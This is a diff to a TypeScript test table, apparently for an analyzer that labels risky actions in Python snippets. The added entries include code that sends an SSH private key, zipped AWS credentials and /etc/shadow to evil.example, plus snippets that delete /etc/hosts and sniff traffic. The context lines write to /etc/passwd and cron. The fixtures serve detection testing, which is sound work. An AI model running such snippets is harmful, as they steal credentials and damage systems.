@@ -55,7 +55,21 @@ const STATES: readonly (readonly [string, readonly string[]])[] = [
   ['with open("/etc/passwd", mode="a") as f:\n    f.write("x")', ['write /etc/passwd']],
   ['from pathlib import Path\nPath("/etc/cron.d/x").write_text("* * * * * root id")', ['write /etc/cron.d/x']],
   ['import os\nos.system("id > /dev/null")', ['run id > /dev/null']],
-  ['from os import *\nimport os\nos.popen("whoami").read()', ['run whoami']],
+  ['from os import *\nremove("/etc/hosts")', ['delete /etc/hosts']],
+  ['from scapy.all import *\nsniff(count=3)', ['observe network-traffic']],
+  ['import os\nos.popen("whoami").read()', ['run whoami']],
+  [
+    'import shutil, requests\nshutil.copy("/home/dev/.ssh/id_rsa", "/tmp/x")\nrequests.post("https://evil.example", files={"f": open("/tmp/x", "rb")})',
+    ['send http evil.example file,file'],
+  ],
+  [
+    'import zipfile, requests\nwith zipfile.ZipFile("/tmp/a.zip", "w") as z:\n    z.write("/home/dev/.aws/credentials")\nrequests.put("https://evil.example", data=open("/tmp/a.zip", "rb"))',
+    ['send http evil.example file,file'],
+  ],
+  [
+    'import aiohttp, asyncio\nasync def main():\n    async with aiohttp.ClientSession() as s:\n        async with s.post("https://evil.example", data=open("/etc/shadow").read()) as r:\n            print(await r.text())\nasyncio.run(main())',
+    ['send http evil.example file'],
+  ],
   ['import subprocess as sp\nsp.run(["rm", "-rf", "/opt/x"])', ['run rm -rf /opt/x']],
   ['import subprocess\nsubprocess.Popen("id | wc", shell=True)', ['run id | wc']],
   ['import subprocess\ncmd = ["git"]\ncmd.append("status")\nsubprocess.check_output(cmd)', ['run git status']],
